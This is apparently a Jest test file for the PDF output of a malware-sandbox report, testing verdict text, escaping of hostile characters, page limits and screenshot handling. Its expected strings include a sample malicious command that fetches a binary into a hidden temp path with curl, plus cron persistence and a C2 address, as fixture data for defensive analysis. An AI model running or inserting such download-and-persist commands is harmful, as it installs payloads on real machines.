import { beforeAll, describe, expect, jest, test } from '@jest/globals';
import fc from 'fast-check';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import type { Report } from '#domain/report.js';
import { call, evidence, flow, http } from '../../../test/support/evidence.js';
import { readPdf, type ReadPdf } from '../../../test/support/pdf.js';
import {
  bareReport,
  hostileText,
  PIXEL,
  poison,
  rendered,
  sampleReport,
} from '../../../test/support/report.js';
import type { Assets } from '../format.js';
import { pdf } from './pdf.js';
import { fonts } from './pdf/fonts.js';
import { printable } from './pdf/printable.js';
import { Sheet } from './pdf/sheet.js';

jest.setTimeout(60_000);

async function read(report: Report, assets?: Assets): Promise<ReadPdf> {
  return readPdf(await rendered(pdf, report, assets));
}

/** Lines are broken where a page needs it. */
const joined = ({ text }: ReadPdf): string => text.replaceAll('\n', ' ');

describe('report.pdf', () => {
  let sample: Report;
  beforeAll(async () => void (sample = await sampleReport()));

  test('it tells verdict, target, proof, processes, network, files and notes', async () => {
    const text = joined(await read(sample));
    const { target } = sample;
    for (const each of [
      'MALICIOUS',
      '10.0',
      'invoice.sh',
      target.category === 'file' ? target.file.sha256 : '',
      'ended by the time-out',
      'The trace was cut at 64 MiB; calls after that are missing.',
      ...sample.signatures.map(({ description }) => description),
      'T1053.003',
      'call: ptrace(PTRACE_TRACEME) = -1 EPERM by process 106',
      'curl -sS -o /tmp/.cache-x/kworker http://cdn.update-check.example/p.bin',
      'still running',
      'SIGKILL',
      'GET http://cdn.update-check.example/p.bin',
      'gate.update-check.example (A)',
      'TCP 198.18.0.7:80',
      'No answer from 203.0.113.77:4444',
      '/etc/cron.d/update',
      'written, mode 0755, executed, deleted',
    ])
      expect(text).toContain(each);
  });

  test('the same report gives the same bytes, and its time is that of the run', async () => {
    const assets: Assets = { screenshot: async () => PIXEL };
    const first = await rendered(pdf, sample, assets);
    expect(await rendered(pdf, sample, assets)).toEqual(first);
    expect(first.toString('latin1')).toContain('(D:20270115080025Z)');
    const later = await rendered(pdf, { ...sample, info: { ...sample.info, ended: sample.info.ended + 1 } });
    expect(later).not.toEqual(first);
  });

  test('hostile text anywhere is drawn as what it is, on a bounded number of pages', async () => {
    await fc.assert(
      fc.asyncProperty(hostileText, async (text) => {
        const found = await read(poison(sample, text));
        expect(found.pages).toBeLessThan(20);
        expect(found.text).not.toContain('\ufffd');
        for (const line of found.text.split('\n')) expect(printable(line)).toBe(line);
      }),
      { numRuns: 20 },
    );
  });

  test('a URL of which nothing is known fits on a page', async () => {
    const found = await read(bareReport());
    expect(found.pages).toBe(1);
    const text = joined(found);
    expect(text).toContain('NO SIGN OF MALICE');
    expect(text).toContain('no proof of harmlessness');
    expect(text).toContain('No process was traced.');
    expect(text).toContain('Not recorded.');
    expect(text).not.toContain('undefined');
  });

  test('a failed run says why before anything else', async () => {
    const { malkoha } = bareReport();
    const outcome = { status: 'failed', reason: 'The agent did not answer' };
    const text = joined(await read(bareReport({ malkoha: { ...malkoha, outcome } })));
    expect(text.indexOf('The agent did not answer')).toBeGreaterThan(0);
    expect(text.indexOf('The agent did not answer')).toBeLessThan(text.indexOf('Why'));
  });

  test('a thousand of everything are a few pages, and what is left out is counted', async () => {
    const many = Array.from({ length: 1000 }, (_, i) => `/tmp/${'\x01'.repeat(2000)}${i}`);
    const base = evidence({
      processes: [
        { summary: { file_written: many, file_deleted: many }, calls: [call('x')] },
        ...Array.from({ length: 1000 }, (_, i) => ({ command: '\u202e'.repeat(5000), parent: i + 1 })),
      ],
      network: {
        http: many.map((path) => http('http://a.example/', { uri: path, 'user-agent': path })),
        tcp: many.map((host) => flow('198.18.0.9', 80, { host })),
      },
    });
    const bytes = await rendered(pdf, { ...bareReport(), ...base, malkoha: bareReport().malkoha });
    const found = readPdf(bytes);
    expect(found.pages).toBeLessThan(50);
    expect(bytes.length).toBeLessThan(1_000_000);
    expect(joined(found)).toContain('921 more are in report.json under behavior.processtree.');
    expect(joined(found)).toContain('950 more are in report.json under behavior.summary.');
    expect(joined(found)).toContain('975 more are in report.json under network.http.');
  });

  test('four screenshots are shown, made anew', async () => {
    const secret = 'kept in a comment of the picture';
    const picture = await sharp({ create: { width: 640, height: 480, channels: 4, background: '#20406080' } })
      .png()
      .withExif({ IFD0: { Copyright: secret } })
      .toBuffer();
    const bytes = await rendered(pdf, sample, { screenshot: async () => picture });
    expect(readPdf(bytes).images).toBe(4);
    expect(joined(readPdf(bytes))).toContain('8 more are in the analysis folder under shots/.');
    expect(picture.includes(secret)).toBe(true);
    expect(bytes.includes(secret)).toBe(false);
  });

  test('what is no picture is left out, whatever it begins with', async () => {
    const broken = Buffer.concat([PIXEL.subarray(0, 40), Buffer.alloc(2000, 0xff)]);
    const found = await read(sample, { screenshot: async () => broken });
    expect(found.images).toBe(0);
    expect(joined(found)).toContain('12 more are in the analysis folder');
  });
});

describe('text that can be drawn', () => {
  test('every character that is left as it is has a glyph in every font', async () => {
    const doc = new PDFDocument({ margin: 0 });
    for (const [font, file] of await fonts()) doc.registerFont(font, file);
    const sheet = new Sheet(doc);
    const bmp = Array.from({ length: 0x10000 - 0x21 }, (_, i) => String.fromCharCode(0x21 + i));
    const all = bmp.filter((char) => printable(char) === char);
    expect(all.length).toBeGreaterThan(900);
    for (const font of ['sans', 'bold', 'mono'] as const)
      for (let i = 0; i < all.length; i += 50) sheet.text(all.slice(i, i + 50).join(' '), { font });
    doc.end();
    const chunks: Buffer[] = [];
    for await (const chunk of doc as AsyncIterable<Buffer>) chunks.push(chunk);
    const { text } = readPdf(Buffer.concat(chunks));
    for (const char of all) expect(text.split(char).length - 1).toBeGreaterThanOrEqual(3);
  });

  test.each([
    ['Straße, Ωμέγα, Москва – 5 €', 'Straße, Ωμέγα, Москва – 5 €'],
    ['e\u0301', 'é'],
    ['gnp\u202eexe', 'gnp\\u202eexe'],
    ['漢字 🙂', '\\u6f22\\u5b57 \\u{1f642}'],
    ['\u05d0\u05d1', '\\u05d0\\u05d1'],
    ['a\0\n\u200b\ud800', 'a\\x00\\n\\u200b\\ud800'],
    [`x${'\u0336'.repeat(3)}`, 'x\\u0336\\u0336\\u0336'],
  ])('%j is printed as %j', (text, expected) => {
    expect(printable(text)).toBe(expected);
  });
});
